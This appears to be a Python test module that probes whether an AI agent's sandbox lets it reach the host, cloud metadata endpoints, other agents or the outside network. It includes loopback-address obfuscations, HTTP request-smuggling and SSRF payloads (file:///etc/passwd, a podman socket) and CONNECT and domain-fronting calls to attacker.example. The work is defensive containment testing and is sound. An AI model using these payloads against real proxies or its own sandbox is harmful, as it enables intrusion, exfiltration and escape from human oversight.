"""What the agent reaches: the host, its neighbours, the machine's metadata, names, everything past the broker."""
import errno
import json
import os
import socket
import struct
import subprocess
import urllib.parse

from probe import Broken, Missing, probe

CONTEXT = json.loads(os.environ.get("ESCAPE_CONTEXT", "{}"))
#: sealed, allow, open, or what the other tool calls it.
MODE = CONTEXT.get("network", "")
#: A listener of this test on the host: on its loopback alone, and on all of its addresses.
LOOPBACK, ANYWHERE = CONTEXT.get("loopback_port", 0), CONTEXT.get("open_port", 0)
#: The host's own addresses.
ADDRESSES = CONTEXT.get("addresses", [])
#: Ports of the gateway and of other frames on the host's loopback.
OTHERS = CONTEXT.get("other_ports", [])
GREETING = b"escape-listener"


def connected(host, port, family=socket.AF_INET, timeout=3):
    """Whether something answers there: an errno's name, or what it said."""
    with socket.socket(family, socket.SOCK_STREAM) as stream:
        stream.settimeout(timeout)
        try:
            stream.connect((host, port))
            stream.sendall(b"hello\r\n\r\n")
            return stream.recv(64)
        except TimeoutError:
            return "timeout"
        except socket.gaierror as error:
            return f"no name: {error.errno}"
        except OSError as error:
            return errno.errorcode.get(error.errno, str(error))


def unreachable(host, port, family=socket.AF_INET):
    said = connected(host, port, family)
    if isinstance(said, bytes) and (GREETING in said or said):
        raise Broken(f"{host}:{port} answered {said[:40]!r}")
    return str(said) if said else "closed at once"


@probe("the host's loopback at 127.0.0.1", "databases, debuggers and admin pages of the host")
def _():
    if not LOOPBACK:
        raise Missing("nothing listens there")
    return unreachable("127.0.0.1", LOOPBACK)


@probe("the host's loopback at ::1", "the same by another name")
def _():
    if not LOOPBACK:
        raise Missing("nothing listens there")
    return unreachable("::1", LOOPBACK, socket.AF_INET6)


for _name in ("host.containers.internal", "host.docker.internal", "gateway.docker.internal"):
    def _register(name):
        @probe(f"the host as {name}", "services of the host that listen on all addresses")
        def _():
            if not ANYWHERE:
                raise Missing("nothing listens there")
            return unreachable(name, ANYWHERE)
    _register(_name)


@probe("the host at its own addresses", "services of the host that listen on all addresses")
def _():
    if not (ANYWHERE and ADDRESSES):
        raise Missing("its addresses are not known")
    return "; ".join(f"{address}: {unreachable(address, ANYWHERE)}" for address in ADDRESSES)


@probe("the default gateway", "the host, where a network leads to it")
def _():
    with open("/proc/net/route") as lines:
        for line in lines:
            fields = line.split()
            if len(fields) > 2 and fields[1] == "00000000":
                address = socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
                return f"{address}: {unreachable(address, ANYWHERE or 22)}"
    return "there is no route out"


@probe("the gateway's and other frames' ports", "talks to other agents, or gives itself orders")
def _():
    if not OTHERS:
        raise Missing("none are known")
    return "; ".join(f"{port}: {unreachable('127.0.0.1', port)}" for port in OTHERS)


for _address, _meaning in (
    ("169.254.169.254", "keys of the cloud machine"), ("100.100.100.200", "keys of the cloud machine"),
    ("fd00:ec2::254", "keys of the cloud machine"), ("192.0.0.192", "keys of the cloud machine"),
):
    def _register(address, meaning):
        @probe(f"the metadata service at {address}", meaning)
        def _():
            return unreachable(address, 80, socket.AF_INET6 if ":" in address else socket.AF_INET)
    _register(_address, _meaning)


@probe("a connection out, past the broker", "whatever the agent knows leaves without anybody seeing it")
def _():
    if MODE == "open":
        raise Missing("the network mode open is meant to")
    return f"1.1.1.1: {unreachable('1.1.1.1', 443)}; 8.8.8.8: {unreachable('8.8.8.8', 53)}"


@probe("names asked past the broker (DNS over UDP)", "what the agent knows leaves as names that are looked up")
def _():
    if MODE == "open":
        raise Missing("the network mode open is meant to")
    query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"
    said = []
    with open("/etc/resolv.conf") as lines:
        servers = [line.split()[1] for line in lines if line.startswith("nameserver")]
    for server in servers + ["1.1.1.1", "127.0.0.11"]:
        with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as asked:
            asked.settimeout(2)
            try:
                asked.sendto(query, (server, 53))
                if asked.recv(512):
                    raise Broken(f"{server} answered")
            except TimeoutError:
                said.append(f"{server}: timeout")
            except OSError as error:
                said.append(f"{server}: {errno.errorcode.get(error.errno, error)}")
    return "; ".join(said)


@probe("ping", "what the agent knows leaves in packets")
def _():
    if MODE == "open":
        raise Missing("the network mode open is meant to")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as asked:
            asked.settimeout(2)
            asked.sendto(b"\x08\0\0\0\0\1\0\1escape", ("1.1.1.1", 0))
            asked.recv(64)
    except TimeoutError:
        return "timeout"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
    raise Broken("1.1.1.1 answered")


@probe("interfaces besides loopback", "a network that nobody watches")
def _():
    if MODE == "open":
        raise Missing("the network mode open is meant to")
    found = sorted(name for _, name in socket.if_nameindex())
    # Tunnels that the kernel makes in every namespace and that are down.
    found = [name for name in found if name not in ("lo", "tunl0", "sit0", "ip6tnl0", "ip6_vti0", "ip_vti0", "gre0", "gretap0", "erspan0")]
    if found:
        raise Broken(", ".join(found))
    return "lo alone"


@probe("abstract Unix sockets of the host", "its desktop and session bus, which have no file")
def _():
    with open("/proc/net/unix") as lines:
        found = {line.split()[-1] for line in lines if line.split()[-1].startswith("@")}
    strange = [name for name in found if any(word in name for word in ("X11", "dbus", "systemd", "containerd", "ICE"))]
    if strange:
        raise Broken(", ".join(sorted(strange)))
    return f"{len(found)}, none of the host"


# ------------------------------------------------------------------------------------------------- through the broker

def proxy():
    address = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
    if not address:
        raise Missing("there is no proxy")
    parts = urllib.parse.urlsplit(address)
    return parts.hostname, parts.port


def through_proxy(request, more=b"", timeout=8):
    """What the broker answers: status line and the begin of the rest."""
    with socket.create_connection(proxy(), timeout=timeout) as stream:
        stream.settimeout(timeout)
        stream.sendall(request)
        answer = b""
        try:
            while b"\r\n\r\n" not in answer and len(answer) < 65536:
                piece = stream.recv(65536)
                if not piece:
                    break
                answer += piece
            if more and answer.split(b"\r\n")[0].split(b" ")[1:2] == [b"200"]:
                stream.sendall(more)
                answer += stream.recv(65536)
        except TimeoutError:
            answer += b" (timeout)"
        return answer


def kept_in(answer):
    if GREETING in answer:
        raise Broken(f"the host's listener answered: {answer[-60:]!r}")
    line = answer.split(b"\r\n")[0].decode(errors="replace")
    return line or "closed"


#: Spellings of this machine itself, as attackers write them.
SPELLINGS = {
    "127.0.0.1": "127.0.0.1", "localhost": "localhost", "localhost with a dot": "localhost.", "LOCALHOST": "LocalHost",
    "decimal": "2130706433", "octal": "0177.0.0.1", "hexadecimal": "0x7f.0.0.1", "short": "127.1", "another loopback": "127.0.0.2",
    "zero": "0.0.0.0", "nothing": "0", "IPv6": "[::1]", "mapped": "[::ffff:127.0.0.1]", "mapped in hexadecimal": "[::ffff:7f00:1]",
    "compatible": "[::127.0.0.1]", "NAT64": "[64:ff9b::7f00:1]", "6to4": "[2002:7f00:1::]", "unspecified": "[::]",
    "a name that leads there": "localtest.me", "another one": "127.0.0.1.nip.io", "host.containers.internal": "host.containers.internal",
    "with user information": "example.com@127.0.0.1", "full-width digits": "１２７.０.０.１", "encoded": "%31%32%37.0.0.1",
}


def tunnel(label, host):
    @probe(f"a tunnel through the broker to this machine ({label})", "databases, debuggers and admin pages of the host")
    def _():
        if not LOOPBACK:
            raise Missing("nothing listens there")
        target = f"{host}:{LOOPBACK}".encode()
        said = kept_in(through_proxy(b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n\r\n", b"hello\r\n\r\n"))
        plain = b"http://" + target + b"/"
        kept_in(through_proxy(b"GET " + plain + b" HTTP/1.1\r\nHost: " + target + b"\r\nConnection: close\r\n\r\n"))
        return said


for _label, _host in SPELLINGS.items():
    tunnel(_label, _host)


def smuggled(label, request, meaning="a request that nobody judged"):
    @probe(f"the broker and {label}", meaning)
    def _():
        if not LOOPBACK:
            raise Missing("nothing listens there")
        return kept_in(through_proxy(request.replace(b"PORT", str(LOOPBACK).encode())))


smuggled("a Host header that differs from the address", b"GET http://example.com/ HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\nConnection: close\r\n\r\n")
smuggled("two Host headers", b"GET / HTTP/1.1\r\nHost: example.com\r\nHost: 127.0.0.1:PORT\r\nConnection: close\r\n\r\n")
smuggled("a second request behind Content-Length",
         b"POST http://example.com/ HTTP/1.1\r\nHost: example.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
         b"GET http://127.0.0.1:PORT/ HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\n\r\n")
smuggled("a line end in the address", b"GET http://example.com/\r\nX: http://127.0.0.1:PORT/ HTTP/1.1\r\nHost: example.com\r\n\r\n")
smuggled("a bare line feed", b"GET http://example.com/ HTTP/1.1\nHost: example.com\n\nGET http://127.0.0.1:PORT/ HTTP/1.1\nHost: 127.0.0.1:PORT\n\n")
smuggled("a header with a space before its colon", b"GET http://example.com/ HTTP/1.1\r\nHost : 127.0.0.1:PORT\r\n\r\n")
smuggled("an upgrade to h2c", b"GET http://127.0.0.1:PORT/ HTTP/1.1\r\nHost: example.com\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: \r\n\r\n")
smuggled("a Connection header that drops others", b"GET http://127.0.0.1:PORT/ HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\nConnection: close, host, x-mimir\r\n\r\n")
smuggled("the methods of WebDAV", b"PROPFIND http://127.0.0.1:PORT/ HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\n\r\n")
smuggled("an address of another kind (ftp)", b"GET ftp://127.0.0.1:PORT/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
smuggled("an address of another kind (file)", b"GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n")
smuggled("an address of another kind (unix)", b"GET http://unix:%2Frun%2Fpodman%2Fpodman.sock:/info HTTP/1.1\r\nHost: x\r\n\r\n")


@probe("a host that is not listed", "whatever the agent knows goes to whoever wrote the text it read")
def _():
    if MODE == "open":
        raise Missing("the network mode open is meant to")
    answer = through_proxy(b"CONNECT attacker.example:443 HTTP/1.1\r\nHost: attacker.example:443\r\n\r\n")
    line = answer.split(b"\r\n")[0].decode(errors="replace")
    if " 200" in line:
        raise Broken(line)
    return line


@probe("a raw tunnel to a listed host", "any protocol to a host that was listed for HTTPS")
def _():
    if MODE != "allow":
        raise Missing("no host is listed")
    answer = through_proxy(b"CONNECT registry.npmjs.org:443 HTTP/1.1\r\nHost: registry.npmjs.org:443\r\n\r\n",
                           b"SSH-2.0-escape\r\n")
    line = answer.split(b"\r\n")[0].decode(errors="replace")
    if b"SSH-2.0" in answer[len(line):]:
        raise Broken("it was carried")
    return line


@probe("a listed host with another server name (domain fronting)", "any host that shares the listed one's servers")
def _():
    if MODE != "allow":
        raise Missing("no host is listed")
    done = subprocess.run(["curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}", "--connect-to",
                           "attacker.example:443:registry.npmjs.org:443", "-k", "https://attacker.example/"],
                          capture_output=True, text=True)
    if done.returncode == 0 and done.stdout.strip() not in ("000", "403", ""):
        raise Broken(f"it answered {done.stdout}")
    return done.stderr.strip().split("\n")[-1][:100] or "refused"
